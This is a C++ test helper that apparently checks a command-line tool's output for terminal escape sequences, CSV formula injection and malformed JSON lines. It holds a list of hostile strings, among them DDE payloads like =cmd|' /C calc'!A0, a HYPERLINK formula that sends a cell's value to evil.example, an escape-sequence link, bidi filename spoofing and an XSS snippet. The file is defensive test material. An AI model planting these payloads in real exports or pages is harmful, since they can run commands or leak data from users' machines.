#include "cli/hostile_text.h"

#include <algorithm>

#include "base/utf.h"

namespace noroshi::test {
namespace {

using namespace std::string_literals;

// Independent of base/json_writer.h, which it is there to check.
bool acts_on_a_terminal(char32_t c) {
  return (c < 0x20 && c != '\n') || (c >= 0x7f && c <= 0x9f) || c == 0x61c || c == 0x200e ||
         c == 0x200f || c == 0x2028 || c == 0x2029 || (c >= 0x202a && c <= 0x202e) ||
         (c >= 0x2066 && c <= 0x2069);
}

std::string near(std::string_view text, std::size_t at) {
  std::string out;
  for (char c : text.substr(at < 60 ? 0 : at - 60, 120)) {
    out += c >= ' ' && c <= '~' ? c : '?';
  }
  return out;
}

// A checker of the grammar of RFC 8259, nothing more.
class JsonCheck {
 public:
  explicit JsonCheck(std::string_view text) : text_(text) {}

  bool is_object() { return peek() == '{' && value() && at_ == text_.size(); }

 private:
  [[nodiscard]] char peek() const { return at_ < text_.size() ? text_[at_] : '\0'; }
  bool take(char c) {
    bool is = peek() == c;
    at_ += is;
    return is;
  }
  bool string() {
    if (!take('"')) {
      return false;
    }
    while (at_ < text_.size() && text_[at_] != '"') {
      if (static_cast<unsigned char>(text_[at_]) < 0x20) {
        return false;
      }
      if (text_[at_] == '\\') {
        ++at_;
        if (peek() == 'u') {
          for (int i = 0; i < 4; ++i) {
            ++at_;
            if (!std::string_view("0123456789abcdefABCDEF").contains(peek())) {
              return false;
            }
          }
        } else if (!std::string_view("\"\\/bfnrt").contains(peek())) {
          return false;
        }
      }
      ++at_;
    }
    return take('"');
  }
  template <typename Element>
  bool list(char open, char close, Element element) {
    if (!take(open)) {
      return false;
    }
    if (take(close)) {
      return true;
    }
    do {
      if (!element()) {
        return false;
      }
    } while (take(','));
    return take(close);
  }
  bool value() {
    switch (peek()) {
      case '{':
        return list('{', '}', [this] { return string() && take(':') && value(); });
      case '[':
        return list('[', ']', [this] { return value(); });
      case '"':
        return string();
      default: {
        std::size_t start = at_;
        while (std::string_view("+-.0123456789Eaeflnrstu").contains(peek()) && peek() != '\0') {
          ++at_;
        }
        return at_ > start;
      }
    }
  }

  std::string_view text_;
  std::size_t at_ = 0;
};

// The cells of CSV after RFC 4180, as a spreadsheet reads them.
std::vector<std::vector<std::string>> cells_of(std::string_view text) {
  std::vector<std::vector<std::string>> rows(1, {""});
  bool quoted = false;
  for (std::size_t i = 0; i < text.size(); ++i) {
    char c = text[i];
    std::string& cell = rows.back().back();
    if (quoted && c == '"' && text.substr(i + 1).starts_with('"')) {
      cell += c;
      ++i;
    } else if (c == '"' && (quoted || cell.empty())) {
      quoted = !quoted;
    } else if (!quoted && c == ',') {
      rows.back().emplace_back();
    } else if (!quoted && c == '\n') {
      rows.emplace_back(1, "");
    } else {
      cell += c;
    }
  }
  if (!quoted) {
    rows.pop_back();  // behind the last line feed
  }
  return rows;
}

bool is_number(std::string_view cell) {
  return cell.find_first_not_of("-.0123456789") == cell.npos;
}

}  // namespace

const std::vector<std::string>& hostile_texts() {
  static const std::vector<std::string> kTexts = {
      "\x1b[2J\x1b[1;1H\x1b]0;owned\x07",
      "\x1b]8;;http://evil.example/\x1b\\click\x1b]8;;\x1b\\",
      "\xc2\x9b"
      "31mred\xc2\x9d"
      "8;;x\xc2\x9c",
      "safe\u202egpj.exe\u202c \u2066x\u2069 \u200f\u200e\u061c",
      "line\nINJECTED line\r\nINJECTED\u2028INJECTED\u2029INJECTED\x0b\x0c\x85",
      "=cmd|' /C calc'!A0",
      "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
      "@SUM(1+1)*cmd|' /C calc'!A0",
      "+1+1+cmd|' /C calc'!A0",
      "-2+3+cmd|' /C calc'!A0",
      "\t=1+1",
      "\r=1+1",
      "\uff1d1+1",
      "a,b;c\td\"e\"\"f',\"",
      "nul\0inside \0"s,
      "back\bspace\b\b\b\b bell\a del\x7f",
      "</script><img src=x onerror=alert(1)>{{x}}%s%n{0}",
      std::string(28'000, 'A') + "\x1b[31m",
  };
  return kTexts;
}

std::string terminal_fault(std::string_view text) {
  if (!is_valid_utf8(text)) {
    return "not UTF-8";
  }
  for (std::size_t at = 0; at < text.size();) {
    std::size_t start = at;
    if (acts_on_a_terminal(take_utf8(text, at))) {
      return "a character that acts on terminals near: " + near(text, start);
    }
  }
  if (text.starts_with("INJECTED") || text.contains("\nINJECTED")) {
    return "a line that comes from a value";
  }
  return "";
}

std::string csv_fault(std::string_view text) {
  auto rows = cells_of(text);
  for (const auto& row : rows) {
    if (row.size() != rows.front().size()) {
      return std::to_string(row.size()) + " cells in the row that begins with " +
             near(row.front(), 0);
    }
    for (const std::string& cell : row) {
      std::size_t at = 0;
      constexpr std::u32string_view kStarts = U"=+-@\t\r\n\uff1d\uff0b\uff0d\uff20";
      if (!cell.empty() && !is_number(cell) && kStarts.contains(take_utf8(cell, at))) {
        return "a live formula: " + near(cell, 0);
      }
    }
  }
  return terminal_fault(text);
}

std::string json_lines_fault(std::string_view text) {
  std::string_view rest = text;
  while (!rest.empty()) {
    std::string_view line = rest.substr(0, rest.find('\n'));
    if (!JsonCheck(line).is_object()) {
      return "no JSON: " + near(line, 0);
    }
    rest.remove_prefix(std::min(line.size() + 1, rest.size()));
  }
  return terminal_fault(text);
}

}  // namespace noroshi::test
